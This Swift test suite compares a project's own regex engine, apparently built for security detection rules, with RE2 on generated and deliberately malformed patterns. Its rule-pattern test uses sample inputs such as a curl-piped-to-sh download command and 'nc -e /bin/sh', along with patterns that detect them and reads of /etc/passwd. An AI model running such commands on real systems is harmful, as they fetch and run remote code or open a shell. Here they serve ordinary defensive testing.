// SPDX-License-Identifier: Apache-2.0

import EventModel
import Foundation
import Testing

@testable import RuleLanguage

/// RE2, as scripts/setup-tests installs it.
private enum RE2 {
    struct Question: Codable { var pattern: String, texts: [String] }
    struct Answer: Codable { var error: String?, answers: [Bool]? }
    struct Failed: Error { var status: Int32 }

    private static let python = Specs.root.appendingPathComponent(".build-tools/bin/python")
    /// Where all tests are required, they run and fail without it.
    static let isWanted = FileManager.default.fileExists(atPath: Specs.root.appendingPathComponent(".build-tools/re2-version").path)
        || ProcessInfo.processInfo.environment["SAKER_REQUIRE_ALL"] == "1"

    // Through files: a pipe that both sides fill would stand still.
    static func answers(_ questions: [Question]) throws -> [Answer] {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("re2-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let asked = folder.appendingPathComponent("asked"), told = folder.appendingPathComponent("told")
        let encoder = JSONEncoder()
        try Data(questions.map { try encoder.encode($0) + Data("\n".utf8) }.joined()).write(to: asked)
        try Data().write(to: told)
        let process = Process()
        process.executableURL = python
        process.arguments = [Specs.root.appendingPathComponent("Tests/Support/re2/answer.py").path]
        process.standardInput = try FileHandle(forReadingFrom: asked)
        process.standardOutput = try FileHandle(forWritingTo: told)
        try process.run()
        process.waitUntilExit()
        guard process.terminationStatus == 0 else { throw Failed(status: process.terminationStatus) }
        return try Data(contentsOf: told).split(separator: UInt8(ascii: "\n")).map { try JSONDecoder().decode(Answer.self, from: $0) }
    }
}

@Suite("A regular expression, compared with RE2", .enabled(if: RE2.isWanted, "RE2 is not there; scripts/setup-tests installs it"))
struct RE2Tests {
    private static func ours(_ pattern: String, _ texts: [String]) throws -> [Bool] {
        let program = try RegexCompiler.compile(Array(pattern.utf8))
        var threads = RegexThreads(largest: program.instructions.count)
        return texts.map { text in
            let bytes = ByteString(text)
            return withExtendedLifetime(bytes) { threads.matches(bytes.view, program) }
        }
    }

    private static func compare(_ questions: [RE2.Question], seed: UInt64 = 0) throws -> (accepted: Int, matched: Int) {
        let answers = try RE2.answers(questions)
        try #require(answers.count == questions.count)
        var accepted = 0, matched = 0
        for (question, answer) in zip(questions, answers) {
            let note = "seed \(seed): \(question.pattern.debugDescription), which RE2 "
            guard let wanted = answer.answers else {
                let why = "\(note) refuses: \(answer.error ?? "")"
                #expect(throws: RegexError.self, "\(why)") { try Self.ours(question.pattern, question.texts) }
                continue
            }
            accepted += 1
            let found = try? Self.ours(question.pattern, question.texts)
            #expect(found == wanted, "\(note) takes, on \(question.texts)")
            matched += wanted.count { $0 }
        }
        return (accepted, matched)
    }

    @Test("accepts the same patterns, and matches the same texts") func generated() throws {
        let seed = SeededNumbers.seed
        var source = PatternSource(numbers: SeededNumbers(seed: seed))
        let questions = (0..<4000).map { _ in RE2.Question(pattern: source.pattern(depth: 3), texts: (0..<10).map { _ in source.text() }) }
        let found = try Self.compare(questions, seed: seed)
        #expect(found.accepted > 3500)
        #expect(found.matched > 2000)
    }

    @Test("accepts and refuses the same among patterns that are mostly mistakes") func mistakes() throws {
        let seed = SeededNumbers.seed
        var source = PatternSource(numbers: SeededNumbers(seed: seed))
        let questions = (0..<4000).map { _ in RE2.Question(pattern: source.mistake(), texts: (0..<6).map { _ in source.text() }) }
        let found = try Self.compare(questions, seed: seed)
        #expect((500...3500).contains(found.accepted))
    }

    @Test("agrees on patterns that rules are made of") func usual() throws {
        let texts = [
            "/usr/bin/python3.11", "/tmp/.x/a.sh", "curl -s http://10.0.0.1:8080/x|sh", "", "a\nb", "/etc/passwd", "Ünïcode",
            "nc -e /bin/sh",
        ]
        let patterns = [
            "/usr/bin/python[0-9.]*", "(/usr)?/bin/(ba|z|da)?sh", "/tmp/\\.[^/]+/.*\\.sh", ".*(curl|wget) .*[|] *(ba)?sh.*",
            ".*[0-9]{1,3}(\\.[0-9]{1,3}){3}(:[0-9]+)?.*", "[[:alnum:]_.-]+", "[^\\x00-\\x7f].*", "/etc/(passwd|shadow|group)", "^.*$",
            "(^|\n)b",
            "[[:upper:]][[:lower:]]*", "a\nb", "nc( -[a-z])* /.*", "(.*/)*[^/]*", "[^ ]+( [^ ]+)*", "\\x{dc}n.*",
        ]
        let found = try Self.compare(patterns.map { RE2.Question(pattern: $0, texts: texts) })
        #expect(found.accepted == patterns.count)
        #expect(found.matched > 15)
    }
}

/// Makes patterns and texts, the same for the same seed.
private struct PatternSource {
    var numbers: SeededNumbers

    private static let atoms = [
        "a", "b", "c", "é", "€", "😀", " ", ".", "\\.", "\\-", "\\x61", "\\x{e9}", "\\n", "\\141", "[ab]", "[^a]", "[a-c]", "[é-€]", "[^é]",
        "[[:alpha:]]", "[^[:alpha:]]", "[[:^digit:]]", "[]a]", "[^]a]", "[a\\]-c]", "[a-]", "[-a]", "[\\x61-\\x{20ac}]", "^", "$", "()",
        "{", "}", "]", ",", "a{,2}", "\n",
    ]

    private static let quantifiers = ["*", "+", "?", "{2}", "{0,2}", "{1,3}", "{2,}", "*?", "+?", "??", "**", "{2}{2}"]

    private static let pieces = [
        "a", "é", "(", ")", "[", "]", "^", "-", "{", "}", "1", "2", ",", "*", "+", "?", "|", "$", ".", "\\", "x", ":", "[:",
        ":]", "alpha", "b",
    ]

    mutating func pattern(depth: Int) -> String {
        guard depth > 0 else { return numbers.pick(Self.atoms) }
        let parts = (0..<1 + Int(numbers.next() % 3)).map { _ in pattern(depth: depth - 1) }
        switch numbers.next() % 5 {
        case 0: return "(" + parts.joined(separator: "|") + ")"
        case 1: return "(" + parts.joined() + ")" + numbers.pick(Self.quantifiers)
        case 2: return parts.joined(separator: "|")
        case _: return parts.joined()
        }
    }

    mutating func mistake() -> String {
        let text = (0..<2 + Int(numbers.next() % 7)).map { _ in numbers.pick(Self.pieces) }.joined()
        // What is read here and not there is told in docs/falco-differences.md.
        return text.contains("(?:") ? mistake() : text
    }

    mutating func text() -> String {
        (0..<Int(numbers.next() % 7)).map { _ in numbers.pick(["a", "a", "b", "c", "é", "€", "😀", " ", "\n", "{", "-", "]", ","]) }.joined()
    }
}
